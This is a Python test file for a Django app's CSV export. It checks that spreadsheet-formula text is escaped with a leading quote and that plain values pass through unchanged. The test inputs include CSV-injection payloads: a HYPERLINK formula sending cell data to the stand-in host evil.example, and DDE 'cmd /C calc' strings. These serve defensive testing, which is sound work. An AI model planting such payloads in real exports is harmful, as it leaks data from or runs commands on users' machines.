import csv
import io

import pytest
from django.db.models import QuerySet

from apps.actions.export import actions_csv
from apps.actions.models import Action
from tests.actions.conftest import request_one

pytestmark = pytest.mark.django_db


def _rows(actions: QuerySet[Action]) -> list[dict[str, str]]:
    response = actions_csv(actions)
    body = b"".join(response.streaming_content)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_text_a_spreadsheet_would_run_as_a_formula_goes_out_as_text(operator) -> None:
    action = request_one(
        operator,
        customer_text='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        internal_note="+cmd|' /C calc'!A0",
    )
    Action.objects.filter(pk=action.pk).update(
        rejection_reason="-2+3+cmd|' /C calc'!A0",
        failure_message="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    hidden = request_one(operator)
    Action.objects.filter(pk=hidden.pk).update(internal_note="\t=1+1", customer_text="\r=1+1")

    row, hidden_row = _rows(Action.objects.order_by("pk"))

    assert row["customer_text"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row["internal_note"] == "'+cmd|' /C calc'!A0"
    assert row["rejection_reason"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["failure_message"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert hidden_row["internal_note"] == "'\t=1+1"
    assert hidden_row["customer_text"] == "'\r=1+1"


def test_plain_text_and_numbers_in_the_export_are_left_as_they_are(operator) -> None:
    action = request_one(operator, internal_note="seen 3 times - escalate")
    Action.objects.filter(pk=action.pk).update(attempts=2)

    (row,) = _rows(Action.objects.all())

    assert row["internal_note"] == "seen 3 times - escalate"
    assert row["attempts"] == "2"
    assert row["reference"] == action.reference
